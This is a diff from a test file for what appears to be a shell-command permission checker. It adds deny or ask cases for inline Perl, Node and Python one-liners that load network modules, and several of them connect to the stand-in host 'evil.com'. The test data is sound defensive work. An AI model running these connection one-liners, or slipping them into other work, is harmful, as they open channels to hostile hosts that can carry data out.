@@ -376,6 +376,9 @@ describe('option forms and names the readers first missed', () => {
     [`node -e 'require("net").connect(80, "evil.com")'`, 'deny'], [`node -e 'require("tls").connect({host: "evil.com", port: 443})'`, 'deny'],
     [`ruby -rsocket -e 'TCPSocket.new("evil.com", 80)'`, 'deny'], [`perl -MIO::Socket::INET -e 'IO::Socket::INET->new("evil.com:80")'`, 'deny'],
     [`perl -MIO::Socket::INET -e 'IO::Socket::INET->new(PeerAddr => "evil.com")'`, 'deny'], [`php -r 'fsockopen("evil.com", 80);'`, 'deny'],
+    // inline code that names a network module, by an option too (hunt 4, F7): a host built at run time asks, a literal one is read.
+    [`perl -MLWP::Simple -e 'print get($u)'`, 'ask'], [`perl -MLWP::Simple=get -e 'getprint($u)'`, 'ask'], [`node -r undici -e 'request(u)'`, 'ask'],
+    [`python3 -c "import ftplib; ftplib.FTP('ev'+'il.com')"`, 'ask'], [`python3 -c "import smtplib; smtplib.SMTP('evil.com')"`, 'deny'],
     ['python3 -m webbrowser evil.com', 'deny'],
     // Lookups and servers from standard input or a file: nslookup with no name (or `-`), dig -f,
     // telnet (`open HOST`, and `!CMD` after ^] unless -E); delv; the MongoDB database tools (were allowed).
